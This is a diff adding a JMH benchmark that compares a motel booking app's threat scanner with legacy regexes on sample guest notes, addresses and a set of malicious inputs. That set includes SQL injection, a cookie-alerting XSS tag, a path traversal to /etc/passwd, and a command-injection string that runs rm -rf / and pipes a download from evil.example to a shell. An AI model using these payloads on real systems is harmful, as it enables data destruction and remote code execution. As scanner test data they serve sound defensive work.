@@ -0,0 +1,92 @@
+package com.westbethel.motel_booking.security.service;
+
+import org.openjdk.jmh.annotations.Benchmark;
+import org.openjdk.jmh.annotations.BenchmarkMode;
+import org.openjdk.jmh.annotations.Fork;
+import org.openjdk.jmh.annotations.Measurement;
+import org.openjdk.jmh.annotations.Mode;
+import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Param;
+import org.openjdk.jmh.annotations.Scope;
+import org.openjdk.jmh.annotations.Setup;
+import org.openjdk.jmh.annotations.State;
+import org.openjdk.jmh.annotations.Warmup;
+import org.openjdk.jmh.infra.Blackhole;
+import org.openjdk.jmh.runner.Runner;
+import org.openjdk.jmh.runner.RunnerException;
+import org.openjdk.jmh.runner.options.OptionsBuilder;
+
+import java.util.concurrent.TimeUnit;
+
+/**
+ * JMH comparison of {@link ThreatScanner} against the four legacy regular expressions.
+ *
+ * Not part of the unit test run. Execute with:
+ * <pre>
+ * mvn test-compile exec:java -Dexec.classpathScope=test \
+ *     -Dexec.mainClass=com.westbethel.motel_booking.security.service.ThreatScannerBenchmark
+ * </pre>
+ * (add {@code -prof gc} to the JMH options to confirm the scanner allocates nothing).
+ */
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 5, time = 1)
+@Measurement(iterations = 5, time = 1)
+@Fork(1)
+@State(Scope.Benchmark)
+public class ThreatScannerBenchmark {
+
+    private static final String[] GUEST_NOTES = {
+            "Arriving late, around 11pm. Please leave the key at the front desk.",
+            "We are celebrating our 25th anniversary - any chance of a room with a view of the river?",
+            "Traveling with a small dog (12 lbs). Allergic to feathers, synthetic pillows please.",
+            "Need a crib and an extra towel set. Will check out early on Sunday morning for a flight."
+    };
+
+    private static final String[] ADDRESSES = {
+            "123 Main Street, Apt 4B, West Bethel, ME 04286",
+            "Flat 2, 17 Harbour Road, Portsmouth PO1 3AX, United Kingdom",
+            "4500 Ocean Blvd Unit 1203, Myrtle Beach, SC 29577"
+    };
+
+    private static final String[] MALICIOUS = {
+            "1' OR '1'='1' --",
+            "<img src=x onerror=alert(document.cookie)>",
+            "../../../../etc/passwd",
+            "guest; rm -rf / && curl evil.example | sh"
+    };
+
+    @Param({"notes", "addresses", "malicious"})
+    public String corpus;
+
+    private String[] inputs;
+
+    @Setup
+    public void setUp() {
+        inputs = switch (corpus) {
+            case "notes" -> GUEST_NOTES;
+            case "addresses" -> ADDRESSES;
+            default -> MALICIOUS;
+        };
+    }
+
+    @Benchmark
+    public void legacyRegexes(Blackhole blackhole) {
+        for (String input : inputs) {
+            blackhole.consume(LegacyThreatPatterns.scan(input));
+        }
+    }
+
+    @Benchmark
+    public void singlePassScanner(Blackhole blackhole) {
+        for (String input : inputs) {
+            blackhole.consume(ThreatScanner.scan(input));
+        }
+    }
+
+    public static void main(String[] args) throws RunnerException {
+        new Runner(new OptionsBuilder()
+                .include(ThreatScannerBenchmark.class.getSimpleName())
+                .build()).run();
+    }
+}